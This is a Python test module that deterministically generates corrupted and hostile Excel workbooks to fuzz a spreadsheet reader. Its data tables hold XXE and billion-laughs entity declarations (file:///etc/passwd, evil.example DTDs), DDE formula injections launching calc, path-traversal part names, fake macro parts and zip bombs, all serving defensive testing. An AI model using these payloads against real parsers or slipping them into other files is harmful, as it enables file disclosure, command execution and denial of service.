"""The n-th damaged or hostile workbook: the same for the same seed, on every machine.

A case begins with a workbook that can be read. The text of its parts is changed, then the parts themselves, then how
they are packed, then the bytes of the file. Each case begins with another kind of change.
"""

from __future__ import annotations

import re
import struct
import zipfile
from collections.abc import Callable, Sequence
from random import Random

from tests.helpers.packages import Parts, parts_of, zipped

READ = (
    "[Content_Types].xml",
    "xl/workbook.xml",
    "xl/_rels/workbook.xml.rels",
    "xl/styles.xml",
    "xl/sharedStrings.xml",
    "xl/worksheets/sheet1.xml",
    "xl/worksheets/sheet2.xml",
    "xl/worksheets/sheet3.xml",
    "xl/worksheets/sheet6.xml",
    "docProps/custom.xml",
)
"""The parts that matter most when a workbook is read."""

ODD_VALUES = (
    "",
    " ",
    "0",
    "-1",
    "-0.0",
    "1.5",
    "99999999",
    "9" * 400,
    "9" * 5_000,
    "1e308",
    "-1e308",
    "1e999",
    "1e-320",
    "nan",
    "-nan",
    "inf",
    "-Infinity",
    "1_0",
    "٣",
    "60",
    "2958465",
    "2958466",
    "43831.999999",
    "TRUE",
    "A1",
    "A0",
    "XFD1048576",
    "ZZZ9999999",
    "$A$1",
    "R1C1",
    "A1:B2",
    "A",
    "1",
    "#REF!",
    "=1+1",
    "=HYPERLINK(&quot;http://evil.example&quot;)",
    "+cmd|' /C calc'!A0",
    "first-2030",
    "../../etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "http://evil.example/x.xml",
    "sheet1.xml",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7*7 }}",
    "_x0000_",
    "_x0007_bell",
    "_x001B_[31m",
    "_xD800_",
    "_xDC00__xD800_",
    "_xD83D__xDE00_",
    "_xFFFE__xFFFF_",
    "_x202E_back",
    "_x005F_x0041_",
    "&#10;line",
    "&#13;&#10;",
    "&#9;",
    "&#0;",
    "&#x85;&#x2028;",
    "\u202eback to front",
    "\u2066hidden\u2069",
    "\ufeff",
    "&unknown;",
    "&",
    "<",
    '"',
    "]]>",
    "n",
    "s",
    "b",
    "e",
    "d",
    "str",
    "inlineStr",
    "date",
    "External",
    "W" * 32_767,
    "W" * 32_768,
    "W" * 100_000,
    "_x000D_" * 20_000,
    "two words " * 10_000,
)

ODD_NAMES = (
    "#REF!",
    "",
    "1",
    "Begin",
    "Begin!A1",
    "Begin!$A:$A",
    "Begin!$1:$1",
    "Begin!$B$9:$A$1",
    "Begin!$B$9:$B$1",
    "Begin!$A$1:$XFD$1048576",
    "Deeds!$B$9:$B$1048576",
    "Deeds!$B$1:$B$9999999",
    "Begin!$ZZZ$9999999",
    "Begin!$A$0",
    "Begin!$A$" + "9" * 5_000,
    "Nowhere!$A$1",
    "'Nowhere'!$A$1",
    "'It''s nowhere'!$A$1",
    "[1]Begin!$A$1",
    "[1]!$A$1",
    "'[evil.xlsx]Begin'!$A$1",
    "OFFSET(Begin!$A$1,1,1)",
    'INDIRECT("Begin!A1")',
    "Begin!$A$1,Begin!$B$2",
    "Begin!$A$1 Begin!$B$2",
    "{1,2,3}",
    "=cmd|' /C calc'!A0",
    "'" * 50_000,
    "'" + "''" * 50_000,
    "'" + "x" * 50_000,
    "A" * 50_000,
    "!" * 50_000,
)

DOCUMENT_TYPES = (
    b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">%s]>'
    % b"".join(b'<!ENTITY a%d "%s">' % (n, (b"&a%d;" % (n - 1) if n > 1 else b"&a;") * 10) for n in range(1, 10)),
    b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 60_000 + b'"><!ENTITY b "' + b"&a;" * 20_000 + b'">]>',
    b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
    b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    b'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>',
    b"<!DOCTYPE x>",
    b"<!-- " + b"c" * 5_000 + b" --><!DOCTYPE x>",
    b" " * 5_000 + b'<!DOCTYPE x [<!ENTITY a "b">]>',
    b"<?x " + b"p" * 5_000 + b"?><!DOCTYPE x>",
)

ODD_PATHS = (
    "../{}",
    "/{}",
    "//{}",
    "./{}",
    "{}/",
    "{}\x00",
    "",
    "C:\\x",
    "../../../tmp/x",
    "é\n",
    "x" * 60_000,
)

ODD_TARGETS = (
    "workbook.xml",
    "_rels/workbook.xml.rels",
    "../[Content_Types].xml",
    "../../../etc/passwd",
    "styles.xml",
    "worksheets/sheet1.xml",
    "worksheets/",
    "nothing.xml",
    "//x",
    ".",
    "/",
    "",
)

NO_WORKBOOKS = (
    b"",
    b"PK",
    b"PK\x05\x06" + bytes(18),
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    b"%PDF",
    b"a,b\n1,2\n",
    bytes(5_000),
)

ENCODINGS = ("utf-16", "utf-16-le", "utf-16-be", "latin-1", "ascii", "cp037", "cp1252", "utf-7", "utf-32", "shift-jis")
CLAIMED = (*ENCODINGS, "no-such", "rot13", "hex", "idna", "punycode", "unicode_escape", "undefined", "x" * 500, "")


def damaged(seed: int, number: int, bases: Sequence[bytes]) -> bytes:
    """The n-th damaged or hostile workbook of a seed: the last of the bases, a large one, in every twentieth case."""
    random = Random(f"workbook {seed} {number}")
    large = number % 20 == 19
    base = bases[-1] if large else bases[number % (len(bases) - 1)]
    kinds = (*PART_CHANGES, *PACKINGS, *FILE_CHANGES)
    first = kinds[number // (20 if large else 2) % len(kinds)]
    parts = parts_of(base)
    changes = [first] if first in PART_CHANGES else []
    for change in changes + random.choices(PART_CHANGES, k=random.choice((0, 0, 1, 3))):
        change(random, parts)
    content = first(random, parts) if first in PACKINGS else zipped(parts)
    if first in FILE_CHANGES:
        content = first(random, content)
    return content


def huge(number: int, base: bytes) -> bytes:
    """The n-th workbook that is much too large in one way."""
    return _HUGE[number % HUGE_KINDS](dict(parts_of(base)))


def _part(random: Random, parts: Parts) -> int:
    """The place of a part: mostly of one that matters."""
    wanted = random.choice(READ)
    places = [place for place, (name, _) in enumerate(parts) if name == wanted]
    return places[0] if places and random.random() < 0.9 else random.randrange(len(parts))


def _xml(change: Callable[[Random, str], str], part: str = "") -> Callable[[Random, Parts], None]:
    """A change of the text of a part: of a certain one, or of any."""

    def changed(random: Random, parts: Parts) -> None:
        places = [place for place, (name, _) in enumerate(parts) if name == part]
        if not (places if part else parts):
            return
        place = places[0] if part else _part(random, parts)
        name, content = parts[place]
        text = change(random, content.decode("utf-8", "replace"))
        parts[place] = (name, text.encode("utf-8", "surrogatepass"))

    return changed


def _any_match(random: Random, pattern: str, text: str) -> re.Match[str] | None:
    found = list(re.finditer(pattern, text, re.DOTALL))
    return random.choice(found) if found else None


def _replaced(text: str, found: re.Match[str] | None, by: str, group: int = 0) -> str:
    return text[: found.start(group)] + by + text[found.end(group) :] if found else text


def _odd_attribute(random: Random, text: str) -> str:
    return _replaced(text, _any_match(random, r'[\w:]+="([^"]*)"', text), random.choice(ODD_VALUES), 1)


def _attribute_left_out(random: Random, text: str) -> str:
    return _replaced(text, _any_match(random, r' [\w:]+="[^"]*"', text), "")


def _attribute_renamed(random: Random, text: str) -> str:
    return _replaced(text, _any_match(random, r' ([\w:]+)="', text), random.choice(("r", "t", "x:y", "name", "1")), 1)


def _odd_content(random: Random, text: str) -> str:
    return _replaced(text, _any_match(random, r"<(?:v|t|si|definedName|vt:\w+)\b[^>]*>([^<]*)<", text),
                     random.choice(ODD_VALUES), 1)  # fmt: skip


def _odd_contents(random: Random, text: str) -> str:
    """Every text of a part replaced."""
    by = random.choice(ODD_VALUES)
    return re.sub(r"(<(?:v|t|vt:\w+)\b[^>]*>)[^<]*<", lambda found: f"{found.group(1)}{by}<", text)


def _element_left_out(random: Random, text: str) -> str:
    return _replaced(text, _any_match(random, r"<(\w+)[ >](?:(?!<\1).)*?</\1>|<\w[^>]*/>", text), "")


def _element_repeated(random: Random, text: str) -> str:
    found = _any_match(random, r"<(\w+)[ >](?:(?!<\1).)*?</\1>|<\w[^>]*/>", text)
    return _replaced(text, found, found.group() * random.choice((2, 3, 200)) if found else "")


def _element_renamed(random: Random, text: str) -> str:
    return _replaced(text, _any_match(random, r"<(\w+)[ />]", text), random.choice(("x", "c", "v", "f", "row")), 1)


def _formula_for_a_value(random: Random, text: str) -> str:
    formula = random.choice(("1+1", "NA()", "[1]x!A1", "cmd|' /C calc'!A0", 'WEBSERVICE("http://evil.example")', ""))
    by = random.choice((f"<f>{formula}</f>", f"<f>{formula}</f><v>7</v>", f'<f t="shared" si="0">{formula}</f>'))
    return _replaced(text, _any_match(random, r"<v\b[^>]*>[^<]*</v>|<v/>", text), by)


def _cell_of_another_type(random: Random, text: str) -> str:
    kind = random.choice(("s", "b", "e", "d", "n", "str", "inlineStr", "x", ""))
    return _replaced(text, _any_match(random, r'<c [^>]*?( t="[^"]*"|)(?: s="\d+")?/?>', text), f' t="{kind}"', 1)


def _answer_odd(random: Random, text: str) -> str:
    """A cell put in that holds an odd value, wherever it comes to stand."""
    address = random.choice(("A1", "B9", "C12", "F30", "A1048576", "XFD1", "ZZZ9999999", "A0", "", "a1", "1A", "AAAA1"))
    value = random.choice(ODD_VALUES)
    cell = random.choice((
        f'<c r="{address}"><v>{value}</v></c>',
        f'<c r="{address}" t="str"><v>{value}</v></c>',
        f'<c r="{address}" t="inlineStr"><is><t>{value}</t></is></c>',
        f'<c r="{address}" t="inlineStr"><is><r><t>{value}</t></r><rPh><t>x</t></rPh><r/></is></c>',
        f'<c r="{address}" t="b"><v>{value}</v></c>',
        f'<c r="{address}" t="s"><v>{value}</v></c>',
        f'<c r="{address}" s="{value}"><v>1</v></c>',
        f"<c><v>{value}</v></c>",
    ))  # fmt: skip
    return _replaced(text, _any_match(random, r"<row[^>]*>()", text), cell, 1)


def _name_odd(random: Random, text: str) -> str:
    return _replaced(text, _any_match(random, r"<definedName[^>]*>([^<]*)<", text), random.choice(ODD_NAMES), 1)


def _names_odd(random: Random, text: str) -> str:
    by = random.choice(ODD_NAMES)
    return re.sub(r"(<definedName[^>]*>)[^<]*<", lambda found: f"{found.group(1)}{by}<", text)


def _names_mixed_up(random: Random, text: str) -> str:
    places = re.findall(r"<definedName[^>]*>([^<]*)<", text)
    return re.sub(r"(<definedName[^>]*>)[^<]*<", lambda found: f"{found.group(1)}{random.choice(places)}<", text)


def _document_type(random: Random, text: str) -> str:
    declaration, _, rest = text.rpartition("?>")
    kind = random.choice(DOCUMENT_TYPES).decode()
    entity = random.choice(("&a;", "&a9;", "&b;", ""))
    return (declaration + "?>" if declaration else "") + kind + re.sub(r">([^<>]+)<", f">{entity}<", rest, count=3)


def _comments(random: Random, text: str) -> str:
    odd = random.choice(("<!-- x -->", "<?x y?>", "<![CDATA[<x>]]>", "<!-- " + "-" * 5_000, "<x/>", "</x>", "<x>"))
    return _replaced(text, _any_match(random, r">()<", text), odd, 1)


def _deep(random: Random, text: str) -> str:
    depth = random.choice((100, 5_000, 70_000))
    return _replaced(text, _any_match(random, r">()<", text), "<x>" * depth + "</x>" * depth, 1)


def _huge_attribute(random: Random, text: str) -> str:
    by = f' x="{"y" * random.choice((1_000, 100_000, 5_000_000))}"'
    return _replaced(text, _any_match(random, r"<\w+()[ />]", text), by, 1)


def _many_attributes(random: Random, text: str) -> str:
    by = "".join(f' a{number}=""' for number in range(random.choice((100, 20_000))))
    return _replaced(text, _any_match(random, r"<\w+()[ />]", text), by, 1)


def _odd_format(random: Random, text: str) -> str:
    """A number format that takes long to look through."""
    code = random.choice(("[" * 30_000, "&quot;" * 30_001, "\\" * 30_000, "d" * 30_000, "yyyy", "General d", "", "[h]"))
    formats = f'<numFmts count="1"><numFmt numFmtId="{random.choice((14, 164, 0, -1))}" formatCode="{code}"/></numFmts>'
    return _replaced(text, _any_match(random, r"<styleSheet[^>]*>()", text), formats, 1)


def _from_1904(random: Random, text: str) -> str:
    by = f' date1904="{random.choice(("1", "true", "x", ""))}"'
    return _replaced(text, _any_match(random, r"<workbookPr()", text), by, 1)


def _part_left_out(random: Random, parts: Parts) -> None:
    if parts:
        del parts[_part(random, parts)]


def _parts_swapped(random: Random, parts: Parts) -> None:
    if parts:
        one, two = _part(random, parts), _part(random, parts)
        parts[one], parts[two] = (parts[one][0], parts[two][1]), (parts[two][0], parts[one][1])


def _part_twice(random: Random, parts: Parts) -> None:
    if parts:
        name, content = parts[_part(random, parts)]
        parts.insert(random.randrange(len(parts)), (name, random.choice((content, b"", b"<x/>", content[:-9]))))


def _part_renamed(random: Random, parts: Parts) -> None:
    if parts:
        place = _part(random, parts)
        name, content = parts[place]
        others = (*(one.format(name) for one in ODD_PATHS), name.upper(), name.replace("/", "\\"))
        parts[place] = (random.choice(others), content)


def _part_replaced(random: Random, parts: Parts) -> None:
    if parts:
        place = _part(random, parts)
        odd = (b"", b"x", b"<x/>", b"\x00" * 1_000, b"<?xml", b"\xef\xbb\xbf<x/>", random.randbytes(500), b"PK\x03\x04",
               b"<x>" * 90_000, b"<" * 1_000, b"{}", b"<x xmlns='y'><c/></x>", zipped(parts[:2]))  # fmt: skip
        parts[place] = (parts[place][0], random.choice(odd))


def _part_cut(random: Random, parts: Parts) -> None:
    if parts:
        place = _part(random, parts)
        name, content = parts[place]
        parts[place] = (name, content[: random.randrange(len(content) + 1)])


def _part_flipped(random: Random, parts: Parts) -> None:
    if parts:
        place = _part(random, parts)
        parts[place] = (parts[place][0], _bits_flipped(random, parts[place][1]))


def _part_encoded(random: Random, parts: Parts) -> None:
    """A part in another encoding, which it may or may not own up to; perhaps with a document type."""
    if not parts:
        return
    place = _part(random, parts)
    name, content = parts[place]
    text = re.sub(r"^\s*<\?xml[^>]*\?>", "", content.decode("utf-8", "replace"))
    if random.random() < 0.3:
        text = random.choice(DOCUMENT_TYPES).decode() + text
    encoding = random.choice(ENCODINGS)
    claimed = random.choice((encoding, encoding, *CLAIMED))
    parts[place] = (name, f'<?xml version="1.0" encoding="{claimed}"?>{text}'.encode(encoding, "replace"))


def _macros(_random: Random, parts: Parts) -> None:
    _change(parts, "[Content_Types].xml", b"sheet.main+xml", b"sheet.macroEnabled.main+xml")
    parts.append(("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)))


def _hidden_macros(_random: Random, parts: Parts) -> None:
    """The part that holds macros, in a workbook that claims to have none."""
    parts.append(("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)))


def _external_link(random: Random, parts: Parts) -> None:
    target = random.choice(("http://evil.example/x.xlsx", "file:///etc/passwd", "\\\\evil.example\\x", "../../x.xlsx"))
    mode = random.choice((' TargetMode="External"', ""))
    kind = random.choice(("externalLink", "worksheet", "styles", "sharedStrings", "hyperlink"))
    relation = (
        f'<Relationship Id="rId{random.choice((1, 2, 999))}" Target="{target}"{mode} '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/></Relationships>'
    )
    _change(parts, "xl/_rels/workbook.xml.rels", b"</Relationships>", relation.encode())


def _sheet_elsewhere(random: Random, parts: Parts) -> None:
    """A reference of the workbook leads to another part, to itself, out of the file, or nowhere."""
    content = dict(parts).get("xl/_rels/workbook.xml.rels", b"").decode("utf-8", "replace")
    text = _replaced(content, _any_match(random, r'Target="([^"]*)"', content), random.choice(ODD_TARGETS), 1)
    _change(parts, "xl/_rels/workbook.xml.rels", content.encode(), text.encode())


def _change(parts: Parts, wanted: str, old: bytes, new: bytes) -> None:
    for place, (name, content) in enumerate(parts):
        if name == wanted and old:
            parts[place] = (name, content.replace(old, new, 1))


PART_CHANGES = (
    *(
        _xml(change)
        for change in (
            _odd_attribute,
            _odd_attribute,
            _attribute_left_out,
            _attribute_renamed,
            _odd_content,
            _odd_contents,
            _element_left_out,
            _element_repeated,
            _element_renamed,
            _formula_for_a_value,
            _cell_of_another_type,
            _answer_odd,
            _answer_odd,
            _document_type,
            _comments,
            _deep,
            _huge_attribute,
            _many_attributes,
        )
    ),
    _xml(_name_odd, "xl/workbook.xml"),
    _xml(_names_odd, "xl/workbook.xml"),
    _xml(_names_mixed_up, "xl/workbook.xml"),
    _xml(_from_1904, "xl/workbook.xml"),
    _xml(_odd_format, "xl/styles.xml"),
    _xml(_answer_odd, "xl/worksheets/sheet1.xml"),
    _xml(_answer_odd, "xl/worksheets/sheet3.xml"),
    _xml(_odd_content, "xl/worksheets/sheet3.xml"),
    _xml(_odd_contents, "xl/sharedStrings.xml"),
    _part_left_out,
    _parts_swapped,
    _part_twice,
    _part_renamed,
    _part_replaced,
    _part_cut,
    _part_flipped,
    _part_encoded,
    _macros,
    _hidden_macros,
    _external_link,
    _sheet_elsewhere,
)


def _otherwise_packed(random: Random, parts: Parts) -> bytes:
    return zipped(parts, random.choice((zipfile.ZIP_STORED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA)))


def _wrongly_packed(random: Random, parts: Parts) -> bytes:
    """Packed in one way, and said to be packed in another, in one part or in all."""
    method = random.choice((zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA))
    claimed = struct.pack("<H", random.choice((0, 8, 9, 12, 14, 93, 98, 99, 65_535)))
    return _headers_changed(random, zipped(parts, method), {8: claimed}, {10: claimed})


def _encrypted(random: Random, parts: Parts) -> bytes:
    flags = struct.pack("<H", random.choice((0x1, 0x41, 0x20, 0x8, 0x2001, 0xFFFF)))
    return _headers_changed(random, zipped(parts), {6: flags}, {8: flags})


def _wrong_sum(random: Random, parts: Parts) -> bytes:
    wrong = random.randbytes(4)
    return _headers_changed(random, zipped(parts), {14: wrong}, {16: wrong})


def _wrong_size(random: Random, parts: Parts) -> bytes:
    size = struct.pack("<I", random.choice((0, 1, 100, 10**6, 2**31, 2**32 - 2, 2**32 - 1)))
    place = random.choice((0, 4))
    return _headers_changed(random, zipped(parts), {18 + place: size}, {20 + place: size})


def _wrong_place(random: Random, parts: Parts) -> bytes:
    place = struct.pack("<I", random.choice((0, 1, 30, 10**6, 2**31, 2**32 - 1)))
    return _headers_changed(random, zipped(parts), {}, {42: place})


def _wrong_lengths(random: Random, parts: Parts) -> bytes:
    length = struct.pack("<H", random.choice((0, 1, 50, 65_535)))
    at = random.choice((28, 30, 32))
    return _headers_changed(random, zipped(parts), {}, {at: length})


def _headers_changed(random: Random, content: bytes, local: dict[int, bytes], central: dict[int, bytes]) -> bytes:
    """A zip file in which fields of the headers are overwritten: of one part or of all."""
    changed = bytearray(content)
    only = random.choice((None, *range(20)))
    for mark, fields in ((b"PK\x03\x04", local), (b"PK\x01\x02", central)):
        for number, found in enumerate(re.finditer(re.escape(mark), content)):
            if only in (None, number):
                for at, value in fields.items():
                    changed[found.start() + at : found.start() + at + len(value)] = value
    return bytes(changed[: len(content)])


def _zip64(random: Random, parts: Parts) -> bytes:
    """The end of the directory says that the true one, with room for larger numbers, is elsewhere."""
    content = zipped(parts)
    end = content.rindex(b"PK\x05\x06")
    record = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, *(
        random.choice((0, 1, len(parts), 2**40, 2**64 - 1)) for _ in range(4)
    ))  # fmt: skip
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, random.choice((0, end, 2**40)), 1)
    return content[:end] + record + locator + content[end:]


def _beside_something(random: Random, parts: Parts) -> bytes:
    """Something before, after or around the zip file."""
    content = zipped(parts)
    odd = random.choice(
        (b"MZ" + bytes(500), b"%PDF-1.7\n", b"<html>", content, b"PK\x05\x06" + bytes(18), bytes(70_000))
    )
    return random.choice((odd + content, content + odd, zipped([("workbook.xlsx", content)])))


PACKINGS = (
    _otherwise_packed,
    _wrongly_packed,
    _encrypted,
    _wrong_sum,
    _wrong_size,
    _wrong_place,
    _wrong_lengths,
    _zip64,
    _beside_something,
)


def _bits_flipped(random: Random, content: bytes) -> bytes:
    changed = bytearray(content)
    for _ in range(random.choice((1, 1, 5, 100))):
        if changed:
            changed[random.randrange(len(changed))] ^= 1 << random.randrange(8)
    return bytes(changed)


def _directory_flipped(random: Random, content: bytes) -> bytes:
    """Bits flipped where the file says what is in it."""
    start = content.find(b"PK\x01\x02")
    return content[:start] + _bits_flipped(random, content[start:]) if start >= 0 else content


def _cut_off(random: Random, content: bytes) -> bytes:
    return content[: random.randrange(len(content) + 1)]


def _start_cut_off(random: Random, content: bytes) -> bytes:
    return content[random.randrange(len(content) + 1) :]


def _block_overwritten(random: Random, content: bytes) -> bytes:
    start, length = random.randrange(len(content) + 1), random.choice((1, 16, 512, 4_096))
    by = random.choice((bytes(length), random.randbytes(length), b"\xff" * length))
    return content[:start] + by + content[start + length :]


def _block_moved(random: Random, content: bytes) -> bytes:
    one, two = sorted(random.randrange(len(content) + 1) for _ in range(2))
    return content[two:] + content[one:two] + content[:one]


def _bytes_put_in(random: Random, content: bytes) -> bytes:
    start = random.randrange(len(content) + 1)
    return content[:start] + random.randbytes(random.choice((1, 3, 100))) + content[start:]


def _something_else(random: Random, _content: bytes) -> bytes:
    return random.choice((*NO_WORKBOOKS, random.randbytes(5_000)))


FILE_CHANGES = (
    _bits_flipped,
    _directory_flipped,
    _cut_off,
    _start_cut_off,
    _block_overwritten,
    _block_moved,
    _bytes_put_in,
    _something_else,
)


def _many(part: str, before: bytes, what: Callable[[], bytes]) -> Callable[[dict[str, bytes]], bytes]:
    """A workbook in one part of which something is put in before a tag: it is made only when it is needed."""

    def made(parts: dict[str, bytes]) -> bytes:
        return zipped([*{**parts, part: parts[part].replace(before, what() + before, 1)}.items()])

    return made


def _numbered(text: str, count: int) -> bytes:
    """A text many times over, with `#` for the number."""
    return "".join(text.replace("#", str(number)) for number in range(1, count + 1)).encode()


def _names_and_cells(parts: dict[str, bytes]) -> bytes:
    """As many names as cells: to look for each cell among all names takes minutes."""
    names = _numbered('<definedName name="n#">Begin!$ZZ$#</definedName>', 45_000)
    workbook = parts["xl/workbook.xml"].replace(b"</definedNames>", names + b"</definedNames>")
    return _many(*_SHEET, lambda: _numbered('<c r="C#"><v>77</v></c>', 25_000))({**parts, "xl/workbook.xml": workbook})


def _one_text_for_many(length: int, count: int) -> Callable[[dict[str, bytes]], bytes]:
    """A long text that thousands of cells share."""

    def made(parts: dict[str, bytes]) -> bytes:
        texts = parts["xl/sharedStrings.xml"]
        number = texts.count(b"<si>")
        long = b"<si><t>" + b"a " * (length // 2) + b"</t></si></sst>"
        cells = _numbered(f'<c r="C#" t="s"><v>{number}</v></c>', count)
        return _many(*_SHEET, lambda: cells)({**parts, "xl/sharedStrings.xml": texts.replace(b"</sst>", long)})

    return made


def _many_entries(parts: dict[str, bytes]) -> bytes:
    """A zip file whose directory lists one part hundreds of thousands of times."""
    content = zipped([("x", b"")])
    start, end = content.index(b"PK\x01\x02"), content.index(b"PK\x05\x06")
    entry, count = content[start:end], 19_000_000 // (end - start)
    last = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 65_535, 65_535, len(entry) * count, start, 0)
    return content[:start] + entry * count + last + b"" * len(parts)


def _large_dictionary(parts: dict[str, bytes]) -> bytes:
    """Packed with LZMA, and said to need four gigabytes for being unpacked."""
    content = zipped([*parts.items()], zipfile.ZIP_LZMA)
    return re.sub(rb"\x05\x00\x5d....", b"\x05\x00\x5d\xff\xff\xff\xff", content, flags=re.DOTALL)


_SHEET = ("xl/worksheets/sheet1.xml", b"</sheetData>")
_HUGE: tuple[Callable[[dict[str, bytes]], bytes], ...] = (
    _many(*_SHEET, lambda: _numbered('<row r="#"><c r="A#"><v>1</v></c></row>', 1_048_576)),
    _many(*_SHEET, lambda: _numbered('<row r="#"><c r="A#"><v>77</v></c></row>', 31_000)),
    _many(*_SHEET, lambda: _numbered('<row r="#"/>', 1_048_576)),
    _many(*_SHEET, lambda: _numbered('<c r="C#" t="inlineStr"><is><t>a b#</t></is></c>', 23_000)),
    _many(*_SHEET, lambda: b" " * 60_000_000),
    _many(*_SHEET, lambda: b"<c r='A1'>" + _numbered("<x/>", 190_000) + b"</c>"),
    _many(*_SHEET, lambda: b"<x>" * 95_000 + b"</x>" * 95_000),
    _many(*_SHEET, lambda: b'<c r="A1"><v>' + b"9" * 18_000_000 + b"</v></c>"),
    _many(*_SHEET, lambda: b'<c r="C1" t="str"><v>' + b"_x000D_" * 2_500_000 + b"</v></c>"),
    _many(*_SHEET, lambda: b"<x " + _numbered('a#="" ', 1_500_000) + b"/>"),
    _many(*_SHEET, lambda: b"<x " + b'a="" ' * 3_500_000 + b"/>"),
    _many(*_SHEET, lambda: _numbered("<x " + " ".join(f'a{n}=""' for n in range(12)) + "/>", 200_000)),
    _many("xl/sharedStrings.xml", b"</sst>", lambda: _numbered("<si><t>t#</t></si>", 48_000)),
    _many("xl/workbook.xml", b"</definedNames>", lambda: b'<definedName name="n">' + b"'" * 18_000_000
                        + b"!$A$1</definedName>"),
    _many("xl/workbook.xml", b"</sheets>", lambda: _numbered('<sheet name="s#" xmlns:r="x" r:id="rId1"/>', 90_000)),
    _many("xl/_rels/workbook.xml.rels", b"</Relationships>",
                        lambda: _numbered('<Relationship Id="r#" Type="x" Target="../../../../x#"/>', 190_000)),
    _many("docProps/custom.xml", b"</Properties>", lambda: _numbered('<property name="p#">x</property>', 95_000)),
    _many("xl/styles.xml", b"<fonts", lambda: b"<numFmts><numFmt numFmtId='164' formatCode='" + b"[" * 9_000_000
                        + b"'/></numFmts>"),
    _many("xl/styles.xml", b"</cellXfs>", lambda: _numbered("<xf/>", 190_000)),
    _many(*_SHEET, lambda: b"<x y='" + b"z" * 18_000_000 + b"'/>"),
    _many(*_SHEET, lambda: b"<!-- " + b"z" * 18_000_000 + b" -->"),
    _many(*_SHEET, lambda: b"<?x " + b"z" * 18_000_000 + b" ?>"),
    _many("xl/workbook.xml", b"</sheets>", lambda: b"<x y='" + b"z" * 18_000_000 + b"'/>"),
    _names_and_cells,
    _one_text_for_many(18_000_000, 2_000),
    _one_text_for_many(32_000, 47_000),
    _many_entries,
    _large_dictionary,
)  # fmt: skip

HUGE_KINDS = len(_HUGE)
"""How many different ones `huge` makes."""
